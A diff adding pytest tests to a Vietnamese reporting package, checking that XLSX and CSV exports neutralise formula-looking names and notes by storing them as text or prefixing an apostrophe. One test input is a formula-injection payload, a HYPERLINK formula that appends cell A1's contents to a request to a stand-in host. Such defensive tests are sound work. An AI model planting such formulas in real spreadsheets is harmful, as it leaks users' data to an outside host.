@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import io
 import shutil
 import subprocess
@@ -186,3 +187,25 @@ def test_dates_have_leading_zeros_only_where_due() -> None:
 
     assert "Hà Nội, ngày 05 tháng 02 năm 2025" == date_words(dt.date(2025, 2, 5), "Hà Nội")
     assert "Hà Nội, ngày 15 tháng 3 năm 2025" == date_words(dt.date(2025, 3, 15), "Hà Nội")
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1)",
+                                  "\t=1+1", "\r=1+1"])
+def test_xlsx_writes_a_formula_looking_name_as_text(result: RoundResult, name: str) -> None:
+    """A subject or position that starts like a formula stays text in the spreadsheet: Excel runs nothing."""
+    subject = dataclasses.replace(result.subjects[0].subject, name=name, position=name)
+    first = dataclasses.replace(result.subjects[0], subject=subject)
+    exemption = dataclasses.replace(result.round.exemptions[0], note=name)
+    round_ = dataclasses.replace(result.round, exemptions=(exemption, *result.round.exemptions[1:]))
+    book = load_workbook(io.BytesIO(results_xlsx(dataclasses.replace(
+        result, round=round_, subjects=(first, *result.subjects[1:])))))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value == name]
+    assert 3 == len(cells)
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_csv_values_that_look_like_formulas_get_an_apostrophe() -> None:
+    """For any CSV writer: formula-looking text is prefixed, numbers and ordinary names are untouched."""
+    from tinnhiem.reports.cells import csv_text
+
+    assert ["'=1+1", "'@A1", "'-2", "Nguyễn Văn Ân", 47] == [csv_text(v) for v in ("=1+1", "@A1", "-2", "Nguyễn Văn Ân", 47)]
